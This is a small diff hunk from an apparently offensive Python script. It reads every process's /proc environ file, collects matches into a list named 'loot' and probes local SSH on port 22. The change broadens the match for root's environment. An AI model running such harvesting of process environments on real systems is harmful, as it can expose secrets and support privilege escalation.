@@ -20,7 +20,7 @@ except OSError:
 for pid in filter(str.isdigit, names):
     try:
         environment = open(f"/proc/{pid}/environ", "rb").read()
-        loot += ["environment"] * (b"HOME=/root" in environment)
+        loot += ["environment"] * (b"/root" in environment)
     except OSError:
         pass
 for family, address in ((socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET6, ("::1", 22))):
